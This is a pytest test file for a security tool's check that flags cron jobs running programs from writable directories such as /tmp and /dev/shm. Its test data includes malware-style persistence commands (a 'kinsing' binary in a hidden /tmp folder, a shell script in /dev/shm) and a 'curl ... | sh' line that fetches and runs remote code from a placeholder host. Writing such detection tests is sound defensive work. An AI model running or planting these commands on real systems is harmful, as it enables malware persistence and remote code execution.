from __future__ import annotations

import pytest

from pratique.checks.persistence.cron_runs_from_writable import CHECK
from pratique.model import Severity
from pratique.parsers.crontab import Crontab
from pratique.parsers.startup_command import StartupCommand
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


def job(command, *, given="", path="/etc/crontab", event=None):
    times = (None,) * 5 if event else ("*",) * 5
    return Crontab(path, 3, event, *times, "root", command, given, active=True)


def script(*commands, path="/etc/cron.daily/x", interpreter="sh"):
    return [
        StartupCommand(path, number, "cron", interpreter, command)
        for number, command in enumerate(commands, start=2)
    ]


@pytest.mark.parametrize(
    "command",
    ["/tmp/.x/kinsing", "cd /var/tmp && ./x", "sh /dev/shm/u.sh", "php /var/lib/.cache/x.php"],
)
def test_points_at(command):
    for rows in ([job(command)], script(command)):
        (sign,) = signs(*rows)
        assert sign.severity is Severity.HIGH


@pytest.mark.parametrize(
    "command",
    [
        "find /tmp -mtime +7 -delete",
        "/usr/bin/flock -n /tmp/a.lock /usr/bin/php /srv/app/artisan schedule:run",
        '"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh"',
        "cp /tmp/report.csv /srv/reports/",
        "curl http://a.example/x | sh",  # another check's
    ],
)
def test_leaves_alone(command):
    assert signs(job(command), *script(command)) == []
